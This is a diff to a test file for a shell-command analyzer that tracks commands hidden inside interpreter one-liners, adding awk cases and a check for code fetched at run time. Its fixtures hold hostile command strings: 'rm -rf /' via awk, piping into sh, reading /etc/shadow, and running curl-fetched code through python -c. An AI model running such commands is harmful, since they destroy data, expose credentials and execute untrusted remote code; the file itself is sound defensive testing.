@@ -43,6 +43,9 @@ FOUND = [
     ("ruby", ["ruby", "-rjson", "-e", "puts 1"], None, ("ruby", "puts 1", "ruby -e")),
     ("php", ["php", "-r", "echo 1;"], None, ("php", "echo 1;", "php -r")),
     ("php", ["php", "index.php"], None, None),
+    ("awk", ["awk", "{print}", "f"], None, ("awk", "{print}", "awk")),
+    ("gawk", ["gawk", "-F", ":", "-v", "x=1", "{print}"], None, ("awk", "{print}", "awk")),
+    ("awk", ["awk", "-f", "prog.awk", "f"], None, None),
 ]
 
 
@@ -121,6 +124,12 @@ CALLS = [
     ("php -r 'echo file_get_contents(\"/etc/shadow\");'", [(["cat", "/etc/shadow"], [])]),
     ("php -r 'unlink(\"a\");'", [(["rm", "a"], [])]),
     ("php -r 'file_put_contents(\"out\", \"x\");'", [(["true"], [(">", "out")])]),
+    # awk
+    ("awk 'BEGIN{system(\"rm -rf /\")}'", [(["rm", "-rf", "/"], [])]),
+    ("awk 'BEGIN { \"id\" | getline x }'", [(["id"], [])]),
+    ("awk '{print $1 | \"sh\"}' f", [(["sh"], [])]),
+    ("awk '$1 > 2 || $2 < 3 {print}' f", []),
+    ("awk '{ system(\"rm \" $1) }' f", [(["rm", "$_"], [])]),
 ]
 
 
@@ -142,6 +151,14 @@ def test_interpreter_origin_extends_the_chain() -> None:
     assert rm.origin == "bash -c>python -c"
 
 
+def test_interpreter_code_from_a_substitution_is_incomplete() -> None:
+    result = analyze('python -c "$(curl -s https://x.example)"')
+    assert not result.complete
+    assert any("code known only at run time" in p for p in result.problems)
+    curl = result.commands[0]
+    assert (curl.program, curl.pipe_next) == ("curl", "python")
+
+
 UNFOLLOWABLE = [
     "python -c 'import os; os.system(cmd)'",
     "python -c 'import subprocess; subprocess.run(args)'",
@@ -150,6 +167,7 @@ UNFOLLOWABLE = [
     "perl -e 'system($cmd)'",
     "python -c 'exec(code)'",
     "node -e 'eval(payload)'",
+    "awk '{ system($0) }' f",
 ]
 
 
